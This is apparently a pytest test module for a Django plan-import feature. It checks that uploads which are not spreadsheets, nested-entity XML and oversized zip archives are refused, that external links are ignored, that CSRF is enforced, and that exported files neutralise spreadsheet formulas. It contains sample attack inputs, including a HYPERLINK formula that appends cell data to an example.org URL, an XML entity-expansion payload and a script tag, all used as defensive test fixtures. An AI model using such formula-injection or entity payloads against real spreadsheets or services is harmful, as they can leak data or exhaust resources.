"""Plans that are sent in: files that are no tables or worse, and text that a spreadsheet would run."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from redway.improvement.plan_rows import PLAN_COLUMNS
from redway.web.improvement.board import action_services as actions
from redway.web.improvement.board.models import Action, Objective
from redway.web.people.models import Person
from web.improvement.board.a_board import AUTHORITY, TODAY, authority, frozen
from web.improvement.board.test_board_pages import ROW
from web.pages import text_of, visitor

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock", "home")]
FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


@pytest.fixture(autouse=True)
def _authority(db: None) -> None:
    authority()


def workbook(*rows: dict[str, str], inside: dict[str, bytes] | None = None) -> bytes:
    """A plan as a workbook, with further parts packed into it."""
    held = io.BytesIO()
    with xlsxwriter.Workbook(held, {"in_memory": True, "strings_to_formulas": False}) as book:
        sheet = book.add_worksheet()
        for at, line in enumerate(
            [list(PLAN_COLUMNS), *([row[name] for name in PLAN_COLUMNS] for row in rows)]
        ):
            for place, text in enumerate(line):
                sheet.write_string(at, place, text)
    with zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        for name, content in (inside or {}).items():
            packed.writestr(name, content)
    return held.getvalue()


def sent(person: Person, content: bytes, name: str = "plan.xlsx") -> str:
    file = SimpleUploadedFile(name, content)
    answer = visitor(person).post(reverse("board:import", args=[AUTHORITY]), {"table": file}, follow=True)
    assert answer.status_code == 200
    return text_of(answer)


LINK = b"<externalLink><externalBook><sheetNames/></externalBook></externalLink>"
GROWING = b'<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><workbook>&c;</workbook>'
SENT: dict[str, tuple[bytes, str]] = {
    "a program": (b"MZ\x90\x00\x03" + bytes(400), ""),
    "a page": (b"<!doctype html><script>alert(1)</script>", "web page"),
    "a paper": (b"%PDF-1.7", "PDF"),
    "an old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Excel workbook"),
    "entities that grow": (
        workbook(inside={"xl/workbook.xml": GROWING}),
        "",
    ),
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("what", SENT)
def test_what_is_no_table_is_refused_by_its_content_whatever_its_name(
    bob: Person, dana: Person, what: str
) -> None:
    content, words = SENT[what]
    said = sent(bob, content)
    assert "There is a problem" in said
    assert words in said
    assert "Traceback" not in said
    assert not Objective.objects.exists()


def test_a_workbook_that_would_fill_the_memory_is_refused_before_it_is_opened(bob: Person) -> None:
    held = io.BytesIO(workbook(ROW))
    with (
        zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as packed,
        packed.open("xl/media/picture.bin", "w") as part,
    ):
        for _ in range(450):
            part.write(bytes(1 << 20))
    assert "would unpack to 450 MB" in sent(bob, held.getvalue())
    assert not Objective.objects.exists()


def test_a_workbook_that_points_elsewhere_is_read_for_its_cells_alone(bob: Person, dana: Person) -> None:
    parts = {"xl/externalLinks/externalLink1.xml": LINK}
    assert "The plan is imported" in sent(bob, workbook(ROW, inside=parts), "plan.csv")
    assert Action.objects.get().title == "Call home"


def test_what_a_spreadsheet_would_run_leaves_as_text_in_every_file(bob: Person, dana: Person) -> None:
    assert "The plan is imported" in sent(bob, workbook(ROW | {"action": FORMULA, "objective": "+1"}))
    action = Action.objects.get()
    assert (action.title, action.objective.title) == (FORMULA, "+1")
    actions.approve_action(actor=bob, action=action, revision=action.revision)
    meeting = frozen(dana, TODAY)
    browser = visitor(dana)
    csv = content_of(browser, "actions_table", AUTHORITY, "csv").decode()
    assert "'=HYPERLINK(" in csv
    assert "\n=HYPERLINK(" not in csv
    assert ",=HYPERLINK(" not in csv
    assert ',"=HYPERLINK(' not in csv
    for name, parts in (
        ("actions_table", [AUTHORITY, "xlsx"]),
        ("history_table", [AUTHORITY, "xlsx"]),
        ("pack_file", [meeting.pk, "restricted", "xlsx"]),
        ("pack_file", [meeting.pk, "public", "xlsx"]),
    ):
        with zipfile.ZipFile(io.BytesIO(content_of(browser, name, *parts))) as held:
            sheets = [held.read(one) for one in held.namelist() if one.startswith("xl/worksheets/")]
            texts = held.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in held.namelist() else b""
        assert not any(b"<f>" in one or b"<hyperlink" in one for one in sheets), name
        assert b">=HYPERLINK" not in texts + b"".join(sheets), name
    # Brought in again as it left it is not escaped twice.
    again = ROW | {"objective": "Again", "action": f"'{FORMULA}"}
    assert "The plan is imported" in sent(bob, workbook(again))
    action = Action.objects.get(objective__title="Again")
    actions.approve_action(actor=bob, action=action, revision=action.revision)
    assert "''=" not in content_of(browser, "actions_table", AUTHORITY, "csv").decode()


def content_of(browser: Client, name: str, *parts: Any) -> bytes:
    answer: Any = browser.get(reverse(f"board:{name}", args=parts))
    assert answer.status_code == 200
    return b"".join(answer.streaming_content) if answer.streaming else bytes(answer.content)


def test_nobody_changes_anything_from_a_page_elsewhere(bob: Person) -> None:
    """Sent with the person's cookies and without the page's token."""
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(bob, backend="allauth.account.auth_backends.AuthenticationBackend")
    for name, parts in (
        ("board:objective_new", [AUTHORITY]),
        ("board:import", [AUTHORITY]),
        ("improvement:new_triage", [AUTHORITY]),
        ("support:latest_list", [AUTHORITY]),
        ("reviews:begin", [AUTHORITY]),
    ):
        assert browser.post(reverse(name, args=parts), {"title": "Mine"}).status_code == 403, name
    assert not Objective.objects.exists()
